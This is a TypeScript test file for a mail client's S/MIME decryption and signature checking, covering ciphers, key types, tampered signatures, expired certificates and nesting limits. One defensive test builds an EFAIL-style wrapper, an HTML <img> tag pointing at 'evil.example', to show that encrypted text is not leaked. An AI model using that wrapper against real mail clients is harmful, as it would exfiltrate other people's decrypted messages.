import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openMail } from '../../../src/mail/secrecy/open.ts';
import type { Ring, Secrecy } from '../../../src/mail/secrecy/secrecy.ts';
import { understandNow } from '../../../src/mail/understand.ts';
import { type Certified, certified, hasOpenssl, openssl } from '../../support/openssl.ts';

const HEADER =
  'From: Li Lei <lilei@customer.example>\r\nTo: desk@support.example\r\nSubject: ...\r\nMessage-ID: <a1@customer.example>\r\nDate: Thu, 26 Nov 2026 10:00:00 +0800\r\n';
const WORDS =
  'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n打印机坏了。The printer is broken.\r\n';
const PROTECTED = WORDS.replace('utf-8', 'utf-8; hp="cipher"').replace(
  '\r\n\r\n',
  '\r\nFrom: Li Lei <lilei@customer.example>\r\nTo: desk@support.example\r\nSubject: The printer\r\nMessage-ID: <a1@customer.example>\r\nDate: Thu, 26 Nov 2026 10:00:00 +0800\r\n\r\n',
);

describe.skipIf(!hasOpenssl)('S/MIME as openssl writes it', () => {
  let folder: string;
  let authority: Certified;
  let desk: Certified;
  let deskOnCurve: Certified;
  let lilei: Certified;
  let old: Certified;
  let forServers: Certified;
  let mallory: Certified;

  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'secrecy-'));
    authority = certified(folder, 'ca@trust.example', { isAuthority: true });
    desk = certified(folder, 'desk@support.example');
    deskOnCurve = certified(folder, 'desk@support.example', { kind: 'ec' });
    lilei = certified(folder, 'lilei@customer.example', { by: authority });
    old = certified(folder, 'lilei@customer.example', { days: 1 });
    forServers = certified(folder, 'lilei@customer.example', { usage: 'serverAuth' });
    mallory = certified(folder, 'mallory@evil.example');
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  const ring = (change: Partial<Ring> = {}): Ring => ({
    keys: [desk, deskOnCurve].map(({ key, certificate }) => ({ form: 'smime', key, certificates: [certificate] })),
    known: [],
    authorities: [authority.certificate],
    at: new Date(),
    ...change,
  });
  const encrypted = (words: string | Buffer, to: Certified, ...options: string[]): Buffer =>
    Buffer.concat([
      Buffer.from(HEADER),
      openssl(['cms', '-encrypt', ...options, '-binary', to.certificateFile], words),
    ]);
  const signed = (words: string, by: Certified, ...options: string[]): Buffer =>
    openssl(['cms', '-sign', '-binary', '-signer', by.certificateFile, '-inkey', by.keyFile, ...options], words);
  const opened = async (
    raw: Uint8Array,
    change?: Partial<Ring>,
  ): Promise<{ text: string; subject: string; secrecy: Secrecy }> => {
    const { octets, secrecy } = await openMail(raw, ring(change));
    const { text, subject } = understandNow(octets);
    return { text: text.trim(), subject, secrecy };
  };
  const SAID = '打印机坏了。The printer is broken.';

  // -recip takes options for the one key that follows it
  const recipient = (to: Certified, ...options: string[]): string[] => ['-recip', to.certificateFile, ...options];
  const sealed = (words: string, args: readonly string[]): Buffer =>
    Buffer.concat([Buffer.from(HEADER), openssl(['cms', '-encrypt', '-binary', ...args], words)]);

  test.each<[string, () => string[]]>([
    ['AES-128-CBC, PKCS #1 v1.5', () => ['-aes128', ...recipient(desk)]],
    ['AES-192-CBC', () => ['-aes192', ...recipient(desk)]],
    ['AES-256-CBC', () => ['-aes256', ...recipient(desk)]],
    ['triple DES', () => ['-des3', ...recipient(desk)]],
    ['AES-128-GCM', () => ['-aes-128-gcm', ...recipient(desk)]],
    ['AES-256-GCM', () => ['-aes-256-gcm', ...recipient(desk)]],
    ['RSA-OAEP', () => ['-aes256', ...recipient(desk, '-keyopt', 'rsa_padding_mode:oaep')]],
    [
      'RSA-OAEP with SHA-256',
      () => [
        '-aes256',
        ...recipient(
          desk,
          '-keyopt',
          'rsa_padding_mode:oaep',
          '-keyopt',
          'rsa_oaep_md:sha256',
          '-keyopt',
          'rsa_mgf1_md:sha256',
        ),
      ],
    ],
    ['by subject key identifier', () => ['-aes256', '-keyid', ...recipient(desk)]],
    ['ECDH', () => ['-aes128', ...recipient(deskOnCurve)]],
    ['ECDH with SHA-256', () => ['-aes256', ...recipient(deskOnCurve, '-keyopt', 'ecdh_kdf_md:sha256')]],
    ['ECDH, GCM, by subject key identifier', () => ['-aes-256-gcm', '-keyid', ...recipient(deskOnCurve)]],
    ['several recipients', () => ['-aes256', ...recipient(mallory), ...recipient(deskOnCurve), ...recipient(desk)]],
    ['in pieces', () => ['-aes256', '-stream', '-indef', ...recipient(desk)]],
  ])('opens %s', async (_, args) => {
    const { text, secrecy } = await opened(sealed(WORDS, args()));
    expect({ text, secrecy }).toEqual({ text: SAID, secrecy: { encrypted: 'opened', signature: null } });
  });

  test('a header that is protected is read inside', async () => {
    expect(await opened(encrypted(PROTECTED, desk))).toMatchObject({ subject: 'The printer', text: SAID });
    expect(await opened(encrypted(WORDS, desk))).toMatchObject({ subject: '...' });
  });

  test('signed, then encrypted', async () => {
    const inner = signed(PROTECTED, lilei);
    const { text, subject, secrecy } = await opened(encrypted(inner, desk, '-aes256'));
    expect({ text, subject }).toEqual({ text: SAID, subject: 'The printer' });
    expect(secrecy).toMatchObject({
      encrypted: 'opened',
      signature: {
        verdict: 'valid',
        addresses: ['lilei@customer.example'],
        name: 'lilei',
        issuer: 'ca',
        trusted: true,
        covers: ['from', 'to', 'date', 'message-id', 'subject'],
      },
    });
  });

  test.each<[string, () => string[], string]>([
    ['clear-signed', () => [], 'valid'],
    ['opaque', () => ['-nodetach'], 'valid'],
    ['RSASSA-PSS', () => ['-keyopt', 'rsa_padding_mode:pss'], 'valid'],
    ['SHA-512', () => ['-md', 'sha512'], 'valid'],
    ['SHA-1', () => ['-md', 'sha1'], 'weak'],
    ['without attributes', () => ['-noattr'], 'valid'],
    ['without the certificate', () => ['-nocerts'], 'unchecked'],
  ])('a signature, %s', async (_, options, verdict) => {
    const raw = Buffer.concat([Buffer.from(HEADER), signed(WORDS, lilei, ...options())]);
    const { text, secrecy } = await opened(raw);
    expect({ text, verdict: secrecy.signature?.verdict, encrypted: secrecy.encrypted }).toEqual({
      text: SAID,
      verdict,
      encrypted: null,
    });
  });

  test('of a key on a curve', async () => {
    const raw = Buffer.concat([Buffer.from(HEADER), signed(WORDS, deskOnCurve)]);
    expect((await opened(raw)).secrecy.signature).toMatchObject({
      verdict: 'valid',
      addresses: ['desk@support.example'],
      trusted: false,
    });
  });

  test.each<[string, (raw: string) => string, string]>([
    ['words are changed', (raw) => raw.replace('printer', 'pr1nter'), 'broken'],
    ['a line end is changed', (raw) => raw.replaceAll('\r\n', '\n'), 'valid'],
    [
      'a third part is put beside it',
      (raw) => raw.replace(/(\r?\n--(.+))--\r?\n?\s*$/, '$1\r\nContent-Type: text/plain\r\n\r\nPay me.\r\n--$2--\r\n'),
      'partial',
    ],
  ])('a clear-signed mail in which %s', async (_, change, verdict) => {
    const raw = Buffer.concat([Buffer.from(HEADER), signed(WORDS, lilei)]).toString('latin1');
    expect(change(raw)).not.toBe(raw);
    expect((await opened(Buffer.from(change(raw), 'latin1'))).secrecy.signature?.verdict).toBe(verdict);
  });

  test('a certificate that is over, or is for something else', async () => {
    const by = (who: Certified): Buffer => Buffer.concat([Buffer.from(HEADER), signed(WORDS, who)]);
    const later = new Date(Date.now() + 3 * 86_400_000);
    expect((await opened(by(old))).secrecy.signature?.verdict).toBe('valid');
    expect((await opened(by(old), { at: later })).secrecy.signature?.verdict).toBe('expired');
    expect((await opened(by(forServers))).secrecy.signature?.verdict).toBe('expired');
  });

  test('a signed part in an unsigned wrapper', async () => {
    const part = signed(WORDS, lilei)
      .toString('latin1')
      .replace(/^MIME-Version.*\r?\n/, '');
    const raw = `${HEADER}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=outer\r\n\r\n--outer\r\nContent-Type: text/plain\r\n\r\nTransfer the money.\r\n--outer\r\n${part}\r\n--outer--\r\n`;
    const { text, secrecy } = await opened(Buffer.from(raw, 'latin1'));
    expect(text).toContain('Transfer');
    expect(secrecy.signature?.verdict).toBe('partial');
  });

  test('a signer that is not the sender keeps the name of the signer, and covers no From', async () => {
    const { secrecy } = await opened(
      Buffer.concat([Buffer.from(HEADER), signed(PROTECTED.replace('lilei@customer', 'mallory@evil'), mallory)]),
    );
    expect(secrecy.signature).toMatchObject({ verdict: 'valid', addresses: ['mallory@evil.example'] });
    expect(secrecy.signature?.covers).not.toContain('from');
  });

  const wrapped = (before: string, part: string, after: string): Buffer =>
    Buffer.from(
      `${HEADER}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=efail\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n${before}\r\n--efail\r\n${part}\r\n--efail\r\nContent-Type: text/html\r\n\r\n${after}\r\n--efail--\r\n`,
      'latin1',
    );

  test('EFAIL: what is encrypted beside other words stays closed', async () => {
    const part = openssl(['cms', '-encrypt', '-aes256', desk.certificateFile], WORDS)
      .toString('latin1')
      .replace(/^MIME-Version.*\r?\n/, '');
    const raw = wrapped('<img src="http://evil.example/', part, '">');
    const { octets, secrecy } = await openMail(raw, ring());
    expect(secrecy).toEqual({ encrypted: 'partly', signature: null });
    expect(Buffer.from(octets).equals(raw)).toBe(true);
    expect(Buffer.from(octets).toString('utf8')).not.toContain('打印机');
  });

  test.each<[string, (cms: Buffer) => Buffer, string, boolean]>([
    ['another recipient’s', (cms) => cms, 'no_key', false],
    ['cut in the middle', (cms) => cms.subarray(0, cms.length / 2), 'damaged', true],
    [
      'GCM with a bit changed',
      (cms) => Buffer.from(cms).fill((cms.at(-60) ?? 0) ^ 1, cms.length - 60, cms.length - 59),
      'damaged',
      true,
    ],
    ['no CMS at all', () => Buffer.from('hello'), 'damaged', true],
  ])('a mail that is %s', async (_, change, why, isOurs) => {
    const cms = openssl(
      ['cms', '-encrypt', '-binary', '-aes-256-gcm', '-outform', 'DER', (isOurs ? desk : mallory).certificateFile],
      WORDS,
    );
    const base64 = change(cms).toString('base64').replace(/.{76}/g, '$&\r\n');
    const raw = `${HEADER}Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64}\r\n`;
    const { secrecy } = await openMail(Buffer.from(raw), ring());
    expect(secrecy.encrypted).toBe(why);
  });

  test('a mail that was opened stays one, whatever is closed in it', async () => {
    const part = openssl(['cms', '-encrypt', '-aes256', desk.certificateFile], WORDS)
      .toString('latin1')
      .replace(/^MIME-Version.*\r?\n/, '');
    const mixed = wrapped('<p>Look at this.</p>', part, '').subarray(HEADER.length + 'MIME-Version: 1.0\r\n'.length);
    const { secrecy, text } = await opened(encrypted(mixed, desk));
    expect(secrecy).toEqual({ encrypted: 'opened', rest: 'partly', signature: null });
    expect(text).toContain('Look at this.');
    expect(text).not.toContain(SAID);
  });

  test.each<[string, number, Partial<Secrecy>]>([
    ['as deep as anything is read', 5, { encrypted: 'opened', signature: null }],
    ['deeper', 6, { encrypted: 'opened', rest: 'unsupported', signature: null }],
  ])('encrypted %s', async (_, layers, secrecy) => {
    let inner: Buffer = Buffer.from(WORDS);
    for (let layer = 1; layer < layers; layer++)
      inner = openssl(['cms', '-encrypt', '-binary', desk.certificateFile], inner);
    expect((await opened(encrypted(inner, desk))).secrecy).toEqual(secrecy);
  });

  test('encrypted within more signatures than are read, it is told as closed', async () => {
    let inner = openssl(['cms', '-encrypt', '-binary', desk.certificateFile], WORDS).toString('latin1');
    for (let layer = 0; layer < 5; layer++) inner = signed(inner, lilei, '-nodetach').toString('latin1');
    const { secrecy } = await opened(Buffer.from(HEADER + inner, 'latin1'));
    expect(secrecy).toMatchObject({ encrypted: 'unsupported', signature: { verdict: 'valid' } });
  });

  test('the same octets at the same moment give the same', async () => {
    const raw = encrypted(signed(PROTECTED, lilei), desk);
    const at = new Date();
    expect(await openMail(raw, ring({ at }))).toEqual(await openMail(raw, ring({ at })));
  });
});
